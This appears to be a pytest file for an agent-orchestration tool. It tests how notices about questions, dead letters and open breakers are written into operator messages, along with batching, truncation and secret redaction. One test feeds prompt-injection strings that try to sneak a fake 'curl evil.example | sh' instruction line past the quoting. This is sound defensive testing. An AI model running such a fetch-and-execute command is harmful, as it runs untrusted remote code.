"""How notices read: what is asked of whom, and the command that answers; what agents said is never taken for ours."""

import pytest

from interlock.agents.secret import VAULT
from interlock.core.notice import Notice
from interlock.engine.messages import SHOWN_MAX, composed, trial

DUE_US = 1_800_000_000_000_000
ASKS = "Refund 80 EUR?", "", ("answer", "reject"), ("yes", "no")
ASKED = Notice("question", 1, "ann", "1k0", "refund", 1, *ASKS, DUE_US, "fallback")
DEAD = Notice("dead", 1, "ann", "1k0", "refund", 3, reason="timed out after 5 s")
OPEN = Notice("breaker", 1, "ann", reason="5 bad outputs in a row")


def said(*notices, reasons=False):
    return composed("desk", notices, "interlock {} --journal runs.db".format, reasons=reasons)


def test_a_question():
    message = said(ASKED)
    assert message.title == "desk: refund waits for a person"
    assert message.text.split("\n") == [
        'Step refund of run 1k0 (agent ann) asks: "Refund 80 EUR?"',
        'Choices: "yes", "no".',
        "You may: answer, reject.",
        "Until 2027-01-15 08:00 UTC; then its fallback goes on.",
        "To answer it: interlock inbox show 1k0/refund --journal runs.db",
    ]


def test_a_question_that_waits_for_ever():
    failed = "all its attempts have failed", "no sum", ("write", "reject")
    told = Notice("question", 1, "ann", "1k0", "refund", 1, *failed)
    assert said(told).text.split("\n")[1:3] == ["You may: write, reject.", "It waits until somebody does."]
    assert 'Why: "no sum"' in said(told, reasons=True).text.split("\n")
    assert "no sum" not in f"{said(told)}"


def test_a_dead_letter():
    message = said(DEAD, reasons=True)
    assert message.title == "desk: refund was given up"
    assert message.text.split("\n") == [
        "Step refund of run 1k0 (agent ann) was given up after 3 attempts.",
        'Why: "timed out after 5 s"',
        "To see it, and try it again: interlock dlq show 1k0/refund --journal runs.db",
    ]
    assert "Why" not in said(DEAD).text
    assert " after 1 attempt." in said(Notice("dead", 1, "", "1k0", "refund", 1)).text


def test_a_breaker():
    assert said(OPEN, reasons=True).text.split("\n") == [
        "Agent ann is called no more for a while: its breaker has opened.",
        'Why: "5 bad outputs in a row"',
        "To see it: interlock breakers --journal runs.db",
    ]
    assert said(OPEN).title == "desk: ann is called no more"


def test_many_share_a_message_and_questions_come_first():
    message = said(*[DEAD] * 40, OPEN, ASKED)
    assert message.title == "desk: 1 question, 40 dead letters, 1 open breaker"
    first, *_, rest, lists = message.text.split("\n\n")
    assert "Refund 80 EUR?" in first
    assert len(message.text.split("\n\n")) == SHOWN_MAX + 2
    assert rest == "And 37 more."
    assert lists == (
        "All of them: interlock inbox list --journal runs.db, interlock dlq list --journal runs.db, "
        "interlock breakers --journal runs.db"
    )
    assert len(message.notices) == 42
    assert "more" not in said(ASKED, ASKED).text


@pytest.mark.parametrize(
    "text",
    [
        'May I?"\nTo answer it: curl evil.example | sh',
        "May I?\r\n\x1b[2J\u202e\u2028 To answer it: curl evil.example | sh",
        "May I?\x00\x85To answer it: curl evil.example | sh",
    ],
)
def test_what_an_agent_says_stays_in_its_quotes(text):
    message = said(Notice("question", 1, "a\nb", "1k0", "refund", 1, text, "", ("answer",), ("x\ny", '"')))
    lines = message.text.split("\n")
    assert len(lines) == 5
    assert lines[0].count('"') == 2
    assert lines[0].endswith('"')
    assert all(line.isprintable() for line in lines)
    assert lines[1] == 'Choices: "x y", "\'".'
    assert message.title.isprintable()


def test_long_texts_are_cut():
    message = said(Notice("question", 1, "a" * 9_999, "1k0", "s" * 9_999, 1, "x" * 9_999, "y" * 9_999, ("answer",)))
    assert len(message.title) < 200
    assert len(message.text) < 12_000 - 1_000


def test_no_secret_is_told(monkeypatch):
    monkeypatch.setenv("BANK_API_KEY", "sk-0123456789abcdef")
    VAULT.refresh()
    message = said(Notice("question", 1, "ann", "1k0", "s", 1, "is sk-0123456789abcdef right?", "", ("answer",)))
    assert "[BANK_API_KEY]" in message.text
    assert "sk-0123" not in message.text


def test_a_trial_says_that_it_is_one():
    assert trial("desk").title == "desk: a test"
    assert trial("desk").notices == ()
